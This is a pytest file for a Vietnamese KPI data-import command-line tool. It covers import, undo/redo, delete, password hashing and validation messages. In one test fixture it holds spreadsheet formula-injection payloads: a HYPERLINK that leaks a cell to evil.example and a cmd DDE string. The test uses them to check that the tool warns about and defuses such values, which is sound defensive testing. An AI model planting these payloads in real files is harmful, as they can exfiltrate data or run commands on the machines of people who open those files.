"""`python -m kpis import | delete | undo | redo | hash-password` as real processes on a copy of the data."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import Workbook

from kpis.auth import verify_password
from kpis.figures import read_figures
from kpis.plan import load_plan
from kpis.store import read_audit
from tests.helpers import files_bytes, libreoffice

REPO = Path(__file__).resolve().parents[1]


def kpis(*args: str, stdin: str | None = None, env: dict | None = None):
    return subprocess.run(
        [sys.executable, "-m", "kpis", *args],
        cwd=REPO,
        input=stdin,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})},
    )


def filled_xlsx(path: Path) -> Path:
    """What staff send: a workbook typed in Excel, Vietnamese header names."""
    book = Workbook()
    sheet = book.active
    sheet.append(["chỉ tiêu", "năm", "giá trị", "nguồn"])
    sheet.append(["st_investment", 2024, 80000, "Báo cáo 45/BC-STC"])
    sheet.append(["public_st_orgs", 2025, 4, "Báo cáo 12/BC-SKHCN"])
    sheet.append(["public_st_orgs", 2024, 3, None])
    book.save(path)
    return path


def test_import_an_xlsx_prints_the_counts_and_undo_puts_everything_back(tmp_path, data_dir):
    before = files_bytes(data_dir)
    upload = filled_xlsx(tmp_path / "so-lieu-2025.xlsx")
    done = kpis("import", str(upload), "--data", str(data_dir), "--user", "An", "--lang", "en")
    assert done.returncode == 0, done.stderr
    assert done.stdout == "added 1, changed 1, unchanged 1\n"
    assert "python -m kpis undo" in done.stderr
    plan = load_plan(REPO / "targets.yaml")[0]
    table = read_figures(data_dir, plan).table.set_index(["indicator", "year"])["value"]
    assert table[("st_investment", 2024)] == 80000
    assert (data_dir / ".history" / "audit.csv").read_text(encoding="utf-8-sig").count('"An"') == 2

    undone = kpis("undo", "--data", str(data_dir), "--user", "Bình")
    assert undone.returncode == 0, undone.stderr
    assert "đã hoàn tác" in undone.stdout and "An" in undone.stdout
    assert {
        k: v for k, v in files_bytes(data_dir).items() if not k.startswith(".history")
    } == before
    again = kpis("undo", "--data", str(data_dir))
    assert again.returncode == 1 and "không có gì để hoàn tác" in again.stderr


def test_redo_puts_back_what_undo_took_away_and_is_refused_after_a_newer_save(tmp_path, data_dir):
    upload = filled_xlsx(tmp_path / "so-lieu.xlsx")
    assert kpis("import", str(upload), "--data", str(data_dir), "--user", "An").returncode == 0
    saved = files_bytes(data_dir)
    nothing = kpis("redo", "--data", str(data_dir))
    assert nothing.returncode == 1 and "không có gì để làm lại" in nothing.stderr
    assert kpis("undo", "--data", str(data_dir), "--user", "Bình").returncode == 0

    redone = kpis("redo", "--data", str(data_dir), "--user", "Chi", "--lang", "en")
    assert redone.returncode == 0, redone.stderr
    assert "redone: the" in redone.stdout and "by An (2 figures" in redone.stdout
    figures = {k: v for k, v in saved.items() if not k.startswith(".history")}
    assert {k: v for k, v in files_bytes(data_dir).items() if not k.startswith(".history")} == (
        figures
    )
    assert [r["action"] for r in read_audit(data_dir)][-2:] == ["redo", "redo"]
    assert {r["user"] for r in read_audit(data_dir) if r["action"] == "redo"} == {"Chi"}

    # Undo again, then someone saves: the redo would overwrite that save, so it is refused.
    assert kpis("undo", "--data", str(data_dir), "--user", "Bình").returncode == 0
    other = tmp_path / "other.csv"
    other.write_text("indicator,year,value,source\nbiotech_lab,2025,1,BC 7\n", encoding="utf-8")
    assert kpis("import", str(other), "--data", str(data_dir), "--user", "Dũng").returncode == 0
    before = files_bytes(data_dir)
    refused = kpis("redo", "--data", str(data_dir))
    assert refused.returncode == 1
    assert "không làm lại" in refused.stderr
    assert "Dũng (import): biotech_lab Bắc Kạn 2025: - → 1" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert files_bytes(data_dir) == before


def test_the_default_message_is_vietnamese(tmp_path, data_dir):
    upload = tmp_path / "u.csv"
    upload.write_text("indicator,year,value,source\nbiotech_lab,2025,1,BC\n", encoding="utf-8")
    done = kpis("import", str(upload), "--data", str(data_dir))
    assert done.stdout == "thêm 1, sửa 0, giữ nguyên 0\n"


def test_a_bad_file_prints_every_problem_exits_1_and_changes_nothing(tmp_path, data_dir):
    before = files_bytes(data_dir)
    upload = tmp_path / "bad.csv"
    upload.write_text(
        "indicator,year,value\nst_investmnt,2024,1\npublic_st_orgs,2025,3.5\nbiotech_lab,2025,2\n",
        encoding="utf-8",
    )
    done = kpis("import", str(upload), "--data", str(data_dir), "--lang", "en")
    assert done.returncode == 1
    lines = done.stdout.splitlines()
    assert lines[0].startswith(f"{upload}:2: indicator: unknown indicator «st_investmnt»")
    assert lines[1].startswith(f"{upload}:3: value:") and lines[2].startswith(f"{upload}:4: value:")
    assert lines[-2:] == ["3 errors, 0 warnings", "nothing was changed"]
    assert "Traceback" not in done.stderr
    assert files_bytes(data_dir) == before


def test_a_missing_file_or_folder_exits_2(tmp_path, data_dir):
    missing = kpis("import", str(tmp_path / "none.csv"), "--data", str(data_dir))
    assert missing.returncode == 2 and "không tìm thấy" in missing.stderr
    upload = filled_xlsx(tmp_path / "x.xlsx")
    no_data = kpis("import", str(upload), "--data", str(tmp_path / "nodata"))
    assert no_data.returncode == 2


def test_hash_password_reads_stdin_and_prints_a_usable_hash_never_the_password():
    done = kpis("hash-password", "--user", "an", stdin="một mật khẩu dài\n")
    assert done.returncode == 0, done.stderr
    line = done.stdout.strip()
    assert line.startswith('"an" = "scrypt$') and "một mật khẩu" not in done.stdout + done.stderr
    assert verify_password("một mật khẩu dài", line.split(" = ")[1].strip('"'))
    short = kpis("hash-password", stdin="ngan\n")
    assert short.returncode == 1 and "8" in short.stderr


def test_delete_a_figure_entered_by_mistake_then_undo(data_dir):
    before = files_bytes(data_dir)
    done = kpis("delete", "st_investment", "2024", "--data", str(data_dir), "--user", "An")
    assert done.returncode == 0, done.stderr
    assert done.stdout == "thêm 0, sửa 0, xoá 1, giữ nguyên 0\n"
    plan = load_plan(REPO / "targets.yaml")[0]
    table = read_figures(data_dir, plan).table
    assert not ((table["indicator"] == "st_investment") & (table["year"] == 2024)).any()
    last = read_audit(data_dir)[-1]
    assert (last["user"], last["indicator"], last["old"], last["new"], last["action"]) == (
        "An",
        "st_investment",
        "76500",
        "",
        "delete",
    )
    again = kpis("delete", "st_investment", "2024", "--data", str(data_dir), "--lang", "en")
    assert again.returncode == 1
    assert "there is no saved figure to delete" in again.stdout
    assert "nothing was changed" in again.stdout

    assert kpis("undo", "--data", str(data_dir)).returncode == 0
    assert {k: v for k, v in files_bytes(data_dir).items() if not k.startswith(".history")} == {
        k: v for k, v in before.items() if not k.startswith(".history")
    }


def test_warnings_refuse_the_import_until_accepted(tmp_path, data_dir):
    before = files_bytes(data_dir)
    upload = tmp_path / "so-lieu.csv"
    upload.write_text(
        "indicator,year,value,source\nst_investment,2024,81.500,Báo cáo 45/BC-STC\n",
        encoding="utf-8",
    )
    refused = kpis("import", str(upload), "--data", str(data_dir))
    assert refused.returncode == 1
    lines = refused.stdout.splitlines()
    assert lines[0] == (
        f"{upload}:2: value: cảnh báo: 81.500 được đọc là số thập phân 81,5 (dấu «.» là dấu "
        "thập phân); nếu ý bạn là tám mươi mốt nghìn năm trăm, hãy viết 81500 (không dùng "
        "dấu phân cách hàng nghìn)"
    )
    assert "chỉ bằng khoảng 1/1000 số năm 2023 là 84100" in lines[1]
    assert lines[-2:] == [
        "2 cảnh báo: kiểm tra từng cảnh báo, rồi chạy lại với --accept-warnings để lưu",
        "không thay đổi gì",
    ]
    assert files_bytes(data_dir) == before
    accepted = kpis("import", str(upload), "--data", str(data_dir), "--accept-warnings")
    assert accepted.returncode == 0, accepted.stdout
    assert accepted.stdout == "thêm 0, sửa 1, giữ nguyên 0\n"


def test_an_integer_indicators_thousands_separator_is_refused_not_a_warning_to_accept(
    tmp_path, data_dir
):
    """«12,000» organisations was read as 12 with a warning, saved with --accept-warnings:
    CONTRACT.md §2 allows no thousands separator, so it is an error that says what to write."""
    before = files_bytes(data_dir)
    upload = tmp_path / "so-lieu.csv"
    upload.write_text(
        'indicator,year,value,source\npublic_st_orgs,2024,"12,000",Báo cáo 45/BC-STC\n',
        encoding="utf-8",
    )
    for lang in ("vi", "en"):
        refused = kpis(
            "import", str(upload), "--data", str(data_dir), "--accept-warnings", "--lang", lang
        )
        assert refused.returncode == 1
        assert refused.stdout.splitlines()[0] == (
            f"{upload}:2: value: 12,000: không dùng dấu phân cách hàng nghìn: viết 12000 "
            "(hoặc 12 nếu là mười hai)"
            if lang == "vi"
            else f"{upload}:2: value: 12,000: no thousands separator: write 12000 (or 12 if "
            "you meant twelve)"
        )
    assert files_bytes(data_dir) == before


def test_a_warning_on_the_command_line_says_accept_warnings_not_a_box_to_tick(tmp_path, data_dir):
    """The pages ask to tick «Tôi đã kiểm tra»; the command line has no box: a new region's
    warning there says to run the command again with --accept-warnings."""
    upload = tmp_path / "so-lieu.csv"
    upload.write_text(
        "indicator,region,year,value,source\npublic_st_orgs,Huyện Chợ Mới,2024,4,BC 1\n",
        encoding="utf-8",
    )
    for lang, said in (
        ("vi", "nếu đúng là địa bàn mới, chạy lại lệnh với --accept-warnings để lưu"),
        ("en", "if it is a new region, run the command again with --accept-warnings to save"),
    ):
        refused = kpis("import", str(upload), "--data", str(data_dir), "--lang", lang)
        assert refused.returncode == 1
        (warning,) = [line for line in refused.stdout.splitlines() if ":2: region:" in line]
        assert warning.endswith(said), warning
        assert "đánh dấu" not in refused.stdout and "accept and save" not in refused.stdout


def test_the_cli_enforces_the_pages_size_limit_unless_told_not_to(tmp_path, data_dir):
    before = files_bytes(data_dir)
    upload = tmp_path / "lon.csv"
    filler = "".join(
        f"public_st_orgs,Huyện {n},2024,,{'ghi chú dài ' * 8}\n" for n in range(60_000)
    )
    upload.write_text(
        "indicator,region,year,value,source\nbiotech_lab,,2025,1,BC 1\n" + filler, "utf-8"
    )
    assert upload.stat().st_size > 5 * 1024 * 1024
    refused = kpis("import", str(upload), "--data", str(data_dir))
    assert refused.returncode == 1
    assert "lớn hơn giới hạn 5 MB: chia thành nhiều tệp nhỏ hơn" in refused.stdout
    assert files_bytes(data_dir) == before
    accepted = kpis("import", str(upload), "--data", str(data_dir), "--no-size-limit")
    assert accepted.returncode == 0, accepted.stdout
    assert accepted.stdout == "thêm 1, sửa 0, giữ nguyên 0\n"


@pytest.mark.slow
def test_a_libreoffice_workbook_that_took_the_thousands_dot_as_a_decimal_is_stopped(
    tmp_path, data_dir
):
    """LibreOffice (English locale) opens `81.500` as the number 81.5 and saves it so: the
    workbook holds no trace of the dot; the jump against 2023 (84100) is what catches it."""
    before = files_bytes(data_dir)
    typed = tmp_path / "so-lieu-2024.csv"
    typed.write_text(
        "indicator,year,value,source\nst_investment,2024,81.500,Báo cáo 45/BC-STC\n", "utf-8"
    )
    libreoffice([typed], "xlsx", tmp_path / "out", infilter="CSV:44,34,76")
    made = tmp_path / "out" / "so-lieu-2024.xlsx"
    refused = kpis("import", str(made), "--data", str(data_dir))
    assert refused.returncode == 1
    assert refused.stdout.splitlines()[0] == (
        f"{made}:2: value: cảnh báo: «Tổng đầu tư cho KH&CN» (Bắc Kạn) năm 2024: 81,5 chỉ bằng khoảng "
        "1/1000 số năm 2023 là 84100: kiểm tra dấu phân cách hàng nghìn (81.500 là 81,5), ô "
        "định dạng phần trăm và đơn vị trước khi lưu"
    )
    assert files_bytes(data_dir) == before


@pytest.mark.slow
def test_a_large_import_says_each_step_on_stderr(tmp_path, data_dir):
    from kpis.commands.import_ import LARGE_IMPORT_BYTES
    from tests.helpers import large_upload

    plan = load_plan(REPO / "targets.yaml")[0]
    upload = tmp_path / "large.csv"
    upload.write_text(large_upload(plan, 1, regions=30, years=range(1990, 2100)), "utf-8")
    assert upload.stat().st_size >= LARGE_IMPORT_BYTES
    done = kpis("import", str(upload), "--data", str(data_dir), "--lang", "en", "--accept-warnings")
    assert done.returncode == 0, done.stdout + done.stderr
    steps = done.stderr.splitlines()
    assert steps[0].startswith("reading large.csv (") and steps[0].endswith(" MB)…")
    assert steps[1].startswith("read ") and steps[1].endswith(" figures; checking and writing…")
    assert done.stdout.startswith("added ")  # stdout: the result alone


def test_import_keeps_the_estimate_column_and_status_marks_the_figure(tmp_path, data_dir):
    # Issue 11: an estimate imported from the command line stays one (it was dropped before).
    book = Workbook()
    book.active.append(["chỉ tiêu", "năm", "giá trị", "nguồn", "ước tính"])
    book.active.append(["public_st_orgs", 2025, 4, "Báo cáo 12/BC-SKHCN", "x"])
    book.save(tmp_path / "uoc-2025.xlsx")
    done = kpis("import", str(tmp_path / "uoc-2025.xlsx"), "--data", str(data_dir), "--lang", "en")
    assert done.returncode == 0, done.stderr
    written = (data_dir / "2025.csv").read_bytes().decode("utf-8-sig").splitlines()
    assert written == [
        "indicator,region,year,value,source,note,estimate",
        "public_st_orgs,Bắc Kạn,2025,4,Báo cáo 12/BC-SKHCN,,x",
    ]
    status = kpis("status", "--data", str(data_dir), "--as-of", "2025", "--format", "json")
    assert status.returncode == 0, status.stderr
    rows = [r for r in json.loads(status.stdout) if r["indicator"] == "public_st_orgs"]
    assert [(r["latest_year"], r["latest_is_estimate"]) for r in rows] == [
        (2020, False),
        (2025, True),
    ]
    table = kpis("status", "--data", str(data_dir), "--as-of", "2025")
    assert "4 (ước)" in table.stdout


@pytest.mark.parametrize("user", ['tran"b', "a\\b", "Trần Thị B", "tab\there"])
def test_hash_password_prints_a_line_that_parses_back_to_the_name_typed(tmp_path, user):
    import tomllib

    done = kpis("hash-password", "--user", user, stdin="một mật khẩu dài\n")
    assert done.returncode == 0, done.stderr
    secrets = tmp_path / "secrets.toml"
    secrets.write_text("[editors]\n" + done.stdout, encoding="utf-8")
    editors = tomllib.loads(secrets.read_text(encoding="utf-8"))["editors"]
    assert list(editors) == [user]
    assert verify_password("một mật khẩu dài", editors[user])


def test_a_secrets_file_that_does_not_parse_is_named_with_its_line_not_as_not_an_editor(
    tmp_path, data_dir
):
    from tests.helpers import editor_secrets

    secrets = editor_secrets(tmp_path, "mật khẩu của an", user="nguyen_van_a")
    # What pasting the old hash-password output for the user name tran"b gave.
    with secrets.open("a", encoding="utf-8") as out:
        out.write('"tran"b" = "scrypt$16384$8$1$x$y"\n')
    upload = tmp_path / "u.csv"
    upload.write_text("indicator,year,value,source\nbiotech_lab,2025,1,BC\n", encoding="utf-8")
    before = files_bytes(data_dir)
    for command in (
        ["undo", "--data", str(data_dir)],
        ["import", str(upload), "--data", str(data_dir)],
    ):
        said = kpis(*command, "--secrets", str(secrets), "--user", "nguyen_van_a")
        assert said.returncode == 1
        assert "không phải tài khoản biên tập" not in said.stderr
        assert said.stderr.startswith(f"{secrets}:3: cột 7: tệp secrets không đọc được (Expected")
        assert "hash-password --user" in said.stderr and "Traceback" not in said.stderr
    english = kpis("undo", "--data", str(data_dir), "--secrets", str(secrets), "--lang", "en")
    assert english.stderr.startswith(f"{secrets}:3: column 7: the secrets file does not parse")
    assert files_bytes(data_dir) == before


FORMULAS = (
    "indicator,region,year,value,source,note\n"
    'biotech_lab,Bắc Kạn,2025,1,"=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm"")",@SUM(1+1)\n'
    "public_st_orgs,Bắc Kạn,2025,3,+cmd|' /C calc'!A0,'=typed with a quote\n"
)


@pytest.mark.slow
def test_a_source_that_a_spreadsheet_would_run_is_warned_about_and_the_trail_runs_nothing(
    tmp_path, data_dir
):
    upload = tmp_path / "cong-thuc.csv"
    upload.write_text(FORMULAS, encoding="utf-8")
    refused = kpis("import", str(upload), "--data", str(data_dir), "--lang", "en")
    assert refused.returncode == 1
    lines = refused.stdout.splitlines()
    assert lines[0].startswith(
        f'{upload}:2: source: warning: source «=HYPERLINK("http://evil.example/?x="&A1,"Bấm")» '
        "begins with «=»: Excel or LibreOffice opening the figures file would run it as a formula"
    )
    assert lines[1].startswith(f"{upload}:3: source: warning: source «+cmd|' /C calc'!A0»")
    assert lines[2].startswith(f"{upload}:2: note: warning: note «@SUM(1+1)» begins with «@»")
    assert lines[-2].startswith("3 warnings")  # not the text typed with a quote
    saved = kpis("import", str(upload), "--data", str(data_dir), "--accept-warnings")
    assert saved.returncode == 0, saved.stdout

    # The history reads back what was typed, quote and all.
    rows = read_audit(data_dir)[-2:]
    assert [(r["source"], r["new_note"]) for r in rows] == [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "@SUM(1+1)"),
        ("+cmd|' /C calc'!A0", "'=typed with a quote"),
    ]
    # The trail opened in LibreOffice Calc: not one cell is a formula, the source reads as typed.
    from openpyxl import load_workbook

    libreoffice([data_dir / ".history" / "audit.csv"], "xlsx", tmp_path / "lo")
    sheet = load_workbook(tmp_path / "lo" / "audit.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any("HYPERLINK" in str(c.value) for c in cells)
    # Undo reads the trail and writes its own rows: those are defused as well, read back whole.
    assert kpis("undo", "--data", str(data_dir)).returncode == 0
    assert read_audit(data_dir)[-1]["new_note"] in ("'=typed with a quote", "@SUM(1+1)", "")
    libreoffice([data_dir / ".history" / "audit.csv"], "xlsx", tmp_path / "lo2")
    sheet = load_workbook(tmp_path / "lo2" / "audit.xlsx").active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_file_over_the_limit_names_the_way_round_and_file_mb_raises_it(tmp_path, data_dir):
    upload = tmp_path / "lon.csv"
    filler = "".join(
        f"public_st_orgs,Huyện {n},2024,,{'ghi chú dài ' * 8}\n" for n in range(60_000)
    )
    upload.write_text("indicator,region,year,value,source\nbiotech_lab,,2025,1,BC 1\n" + filler)
    size = upload.stat().st_size / 1024 / 1024
    refused = kpis("import", str(upload), "--data", str(data_dir))
    assert refused.stdout.splitlines()[0] == (
        f"{upload}:1: file: tệp nặng {size:.1f} MB, lớn hơn giới hạn 5 MB: chia thành nhiều tệp nhỏ hơn "
        "(ví dụ mỗi năm một tệp), hoặc xoá các trang tính, ảnh không cần thiết; quản trị viên "
        "nhập được tệp lớn hơn bằng lệnh python -m kpis import TỆP --no-size-limit"
    ).replace(f"{size:.1f}", f"{size:.1f}".replace(".", ","))
    english = kpis("import", str(upload), "--data", str(data_dir), "--lang", "en")
    assert f"the file is {size:.1f} MB, over the 5 MB limit" in english.stdout
    assert "python -m kpis import FILE --no-size-limit" in english.stdout
    for how in (["--limit", "file_mb=10"], []):
        env = {} if how else {"KPI_MAX_FILE_MB": "10"}
        done = kpis("import", str(upload), "--data", str(data_dir), *how, env=env)
        assert "giới hạn" not in done.stdout, how
        assert done.returncode == 0 or "đã có" in done.stdout, done.stdout
    smaller = kpis("import", str(upload), "--data", str(data_dir), "--limit", "file_mb=4")
    assert "lớn hơn giới hạn 4 MB" in smaller.stdout


def test_a_file_beyond_the_readers_limit_too_is_told_the_one_option_that_lifts_both(
    tmp_path, data_dir
):
    upload = tmp_path / "lon.csv"
    upload.write_text("indicator,year,value\n" + "biotech_lab,2025,1\n" * 400_000)
    refused = kpis("import", str(upload), "--data", str(data_dir), "--limit", "file_mb=6")
    assert refused.stdout.splitlines()[0].endswith("python -m kpis import TỆP --limit file_mb=8")


@pytest.mark.slow
def test_an_import_with_thousands_of_errors_prints_200_and_counts_the_rest(tmp_path, data_dir):
    from kpis.commands.import_ import MOST_PROBLEM_LINES

    upload = tmp_path / "lap.csv"
    upload.write_text("indicator,year,value,source\n" + "biotech_lab,2025,1,BC\n" * 5_000)
    done = kpis("import", str(upload), "--data", str(data_dir))
    assert done.returncode == 1
    lines = done.stdout.splitlines()
    assert len(lines) == MOST_PROBLEM_LINES + 3
    assert all(line.startswith(f"{upload}:") for line in lines[:MOST_PROBLEM_LINES])
    assert lines[-3:] == [
        "… và 4.799 vấn đề nữa (thường là cùng một lỗi lặp lại): sửa các vấn đề trên rồi chạy "
        "lại, hoặc xem tất cả bằng python -m kpis validate --data TỆP",
        "4999 lỗi, 0 cảnh báo",
        "không thay đổi gì",
    ]
    # validate's output is the contract's: every problem, one a line.
    every = kpis("validate", "--data", str(upload))
    assert len(every.stdout.splitlines()) == 5_000


def test_a_wingdings_tick_in_the_estimate_column_is_told_as_such_not_as_an_encoding(
    tmp_path, data_dir
):
    """What `import` prints for a tick Excel's Wingdings font made «ü»: the file, line and
    column, what the mark is and to type x; nothing saved. It advised saving as CSV UTF-8."""
    upload = tmp_path / "uoc-tinh.csv"
    upload.write_text(
        "chỉ tiêu,năm,giá trị,nguồn,ước tính\npublic_st_orgs,2025,4,BC 12,ü\n", encoding="utf-8"
    )
    refused = kpis("import", str(upload), "--data", str(data_dir), "--lang", "en")
    assert refused.returncode == 1
    assert refused.stdout.splitlines()[0] == (
        f"{upload}:2: estimate: «ü» is Excel's Wingdings tick ✓, the file keeps only the letter "
        "«ü»: type x instead. The estimate column takes x, 1, ước or ✓ for an estimate, an "
        "empty cell for a reported figure"
    )
    assert "CSV UTF-8" not in refused.stdout
    assert refused.stdout.splitlines()[-1] == "nothing was changed"


def test_a_not_an_estimate_word_is_warned_before_saving_and_saved_as_no_estimate(
    tmp_path, data_dir
):
    """«không» in «ước tính» was read as not an estimate without a word: the import now stops
    on the warning, and --accept-warnings saves the figure unmarked."""
    before = files_bytes(data_dir)
    upload = tmp_path / "uoc-tinh.csv"
    upload.write_text(
        "chỉ tiêu,năm,giá trị,nguồn,ước tính\npublic_st_orgs,2024,4,BC 12,không\n",
        encoding="utf-8",
    )
    refused = kpis("import", str(upload), "--data", str(data_dir))
    assert refused.returncode == 1
    assert refused.stdout.splitlines() == [
        f"{upload}:2: estimate: cảnh báo: «không» trong cột ước tính được hiểu là không phải "
        "ước tính: để trống ô nếu không phải ước tính, ghi x nếu là ước tính",
        "1 cảnh báo: kiểm tra từng cảnh báo, rồi chạy lại với --accept-warnings để lưu",
        "không thay đổi gì",
    ]
    assert files_bytes(data_dir) == before
    english = kpis("import", str(upload), "--data", str(data_dir), "--lang", "en")
    assert english.stdout.splitlines()[0] == (
        f"{upload}:2: estimate: warning: «không» in the estimate column is read as not an "
        "estimate: leave the cell empty if it is not an estimate, write x if it is"
    )
    accepted = kpis("import", str(upload), "--data", str(data_dir), "--accept-warnings")
    assert accepted.returncode == 0, accepted.stdout
    assert accepted.stdout == "thêm 0, sửa 1, giữ nguyên 0\n"
    saved = (data_dir / "2024.csv").read_text("utf-8-sig")
    assert "public_st_orgs,Bắc Kạn,2024,4,BC 12,\n" in saved.replace("\r\n", "\n")
